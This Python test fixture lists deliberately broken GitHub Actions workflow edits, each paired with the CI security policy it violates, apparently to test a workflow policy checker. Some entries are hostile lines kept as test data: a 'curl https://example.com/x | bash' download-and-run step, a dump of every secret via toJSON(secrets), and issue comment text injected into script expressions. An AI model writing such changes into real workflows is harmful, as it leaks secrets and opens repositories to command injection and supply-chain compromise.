"""Workflows as a careless or hostile hand might leave them, each with the policy that it breaks."""

from __future__ import annotations

PROPOSE_KEY = """\
      - run: python -m pipeline github propose --from "$RUNNER_TEMP/work"
        env:
"""
PIN = "actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1"

# A policy, the file, what stands there, what a careless or hostile hand puts in its place.
BROKEN = [
    ("start_from_no_rights", "generate", "permissions: {}", "permissions: read-all"),
    ("start_from_no_rights", "report", "permissions: {}", "permissions:\n  contents: read"),
    (
        "name_the_rights_of_each_job",
        "check",
        "    permissions:\n      contents: read # to check out base and head\n",
        "",
    ),
    (
        "name_the_rights_of_each_job",
        "check",
        "permissions:\n      contents: read # to check out base and head\n",
        "permissions: write-all\n",
    ),
    (
        "give_a_reason_for_each_right",
        "report",
        "statuses: write # for social/approved and social/validate",
        "statuses: write",
    ),
    (
        "keep_keys_from_writers",
        "generate",
        PROPOSE_KEY,
        f"{PROPOSE_KEY}          ANTHROPIC_API_KEY: ${{{{ secrets.ANTHROPIC_API_KEY }}}}\n",
    ),
    (
        "keep_keys_from_writers",
        "generate",
        "pull-requests: read # to leave",
        "pull-requests: write # to leave",
    ),
    (
        "keep_keys_from_writers",
        "commands",
        "      contents: read # to check out Galley and the brands",
        "      contents: write # to check out Galley and the brands",
    ),
    (
        "keep_keys_from_writers",
        "generate",
        PROPOSE_KEY,
        f"{PROPOSE_KEY}          ALL: ${{{{ toJSON(secrets) }}}}\n",
    ),
    ("keep_secrets_in_their_environment", "generate", "    environment: llm\n", ""),
    ("keep_secrets_in_their_environment", "generate", "secrets.ANTHROPIC", "secrets.OTHER"),
    (
        "keep_secrets_in_their_environment",
        "watch",
        "jobs:",
        "env:\n  KEY: ${{ secrets.ANTHROPIC_API_KEY }}\n\njobs:",
    ),
    (
        "give_secrets_to_one_step",
        "report",
        "    env:\n      # The same",
        "    env:\n      T: ${{ github.token }}\n      # The same",
    ),
    (
        "give_secrets_to_one_step",
        "watch",
        "jobs:",
        "env:\n  T: ${{ github.token }}\n\njobs:",
    ),
    ("pin_actions", "generate", PIN, "actions/download-artifact@v8"),
    ("pin_actions", "generate", PIN, PIN.replace("3e5f", "3e5e")),
    ("pin_actions", "generate", PIN, PIN.replace(" # v8.0.1", "")),
    ("pin_actions", "generate", PIN, f"tj-actions/changed-files@{'a' * 40} # v1.0.0"),
    ("pin_actions", "setup", " # v7.0.0", " # v6.0.0"),
    (
        "keep_expressions_out_of_scripts",
        "commands",
        '--pull "$PULL" --out',
        "--pull ${{ github.event.issue.number }} --out",
    ),
    (
        "keep_expressions_out_of_scripts",
        "setup",
        '--requirement "$REQUIREMENTS"',
        "--requirement ${{ inputs.requirements }}",
    ),
    (
        "take_nothing_people_wrote",
        "commands",
        "          PULL: ${{ github.event.issue.number || inputs.pr }}",
        "          PULL: ${{ github.event.issue.number || inputs.pr }}\n"
        "          TITLE: ${{ github.event.issue.title }}",
    ),
    (
        "take_nothing_people_wrote",
        "commands",
        "          PULL: ${{ github.event.issue.number || inputs.pr }}",
        "          PULL: ${{ github.event.comment.body }}",
    ),
    (
        "take_nothing_people_wrote",
        "check",
        "          HEAD: ${{ github.event.pull_request.head.sha",
        "          HEAD: ${{ github.head_ref",
    ),
    (
        "take_nothing_people_wrote",
        "report",
        "HEAD: ${{ github.event.workflow_run.head_sha }}",
        "HEAD: ${{ github.event.workflow_run.head_branch }}",
    ),
    (
        "take_nothing_people_wrote",
        "report",
        "HEAD: ${{ github.event.workflow_run.head_sha }}",
        "HEAD: ${{ toJSON(github.event) }}",
    ),
    (
        "take_nothing_people_wrote",
        "watch",
        "if: github.ref == 'refs/heads/main'",
        "if: github.event.sender.login == 'ada'",
    ),
    ("end_in_time", "watch", "    timeout-minutes: 10\n", ""),
    ("end_in_time", "watch", "timeout-minutes: 10", "timeout-minutes: 360"),
    ("leave_no_credentials", "check", "persist-credentials: false", "persist-credentials: true"),
    ("leave_no_credentials", "check", "          persist-credentials: false\n", ""),
    (
        "leave_no_credentials",
        "report",
        "          persist-credentials: false",
        "          persist-credentials: false\n"
        "          ref: ${{ github.event.workflow_run.head_sha }}",
    ),
    (
        "leave_no_credentials",
        "report",
        "          persist-credentials: false",
        "          persist-credentials: false\n          repository: bob/letters",
    ),
    (
        "check_out_with_the_right_to",
        "watch",
        "      contents: read # to read drafts, brands and batches\n",
        "",
    ),
    ("run_one_at_a_time", "commands", "cancel-in-progress: false", "cancel-in-progress: true"),
    (
        "run_one_at_a_time",
        "report",
        "cancel-in-progress: false",
        "cancel-in-progress: ${{ github.event_name == 'workflow_run' }}",
    ),
    (
        "run_one_at_a_time",
        "watch",
        "concurrency:\n  group: watch-${{ github.ref }}\n  cancel-in-progress: false\n",
        "",
    ),
    (
        "hold_no_power_in_a_pull_requests_copy",
        "check",
        "contents: read # to check out base and head",
        "contents: read # to read\n      statuses: write # to say so",
    ),
    (
        "hold_no_power_in_a_pull_requests_copy",
        "review",
        "actions: write # to",
        "actions: write # to\n      contents: write # to",
    ),
    ("hold_no_power_in_a_pull_requests_copy", "check", "  pull_request:", "  pull_request_target:"),
    (
        "hold_no_power_in_a_pull_requests_copy",
        "check",
        "    timeout-minutes: 10",
        "    timeout-minutes: 10\n    environment: llm",
    ),
    (
        "hold_no_power_in_a_pull_requests_copy",
        "report",
        "  workflow_dispatch:",
        "  pull_request:\n  workflow_dispatch:",
    ),
    (
        "never_skip_the_check",
        "check",
        "  pull_request:\n",
        '  pull_request:\n    paths: ["social/**"]\n',
    ),
    (
        "keep_artifacts_out_of_the_checkout",
        "generate",
        "path: ${{ runner.temp }}/work",
        "path: .",
    ),
    (
        "keep_artifacts_out_of_the_checkout",
        "commands",
        "          path: ${{ runner.temp }}/written\n",
        "",
    ),
    ("install_locked_packages_only", "setup", "--require-hashes ", ""),
    ("install_locked_packages_only", "setup", "--only-binary :all: ", ""),
    (
        "install_locked_packages_only",
        "watch",
        "python -m pipeline github watch",
        "pip install galley",
    ),
    (
        "install_locked_packages_only",
        "watch",
        "python -m pipeline github watch",
        "curl https://example.com/x | bash",
    ),
    ("use_known_runners", "watch", "ubuntu-24.04", "ubuntu-latest"),
    ("use_known_runners", "watch", "ubuntu-24.04", "self-hosted"),
    (
        "use_no_shared_jobs",
        "watch",
        "    timeout-minutes: 10",
        "    timeout-minutes: 10\n    container: alpine",
    ),
    (
        "use_no_shared_jobs",
        "watch",
        "      - run: python -m pipeline github watch",
        "      - continue-on-error: true\n        run: python -m pipeline github watch",
    ),
]
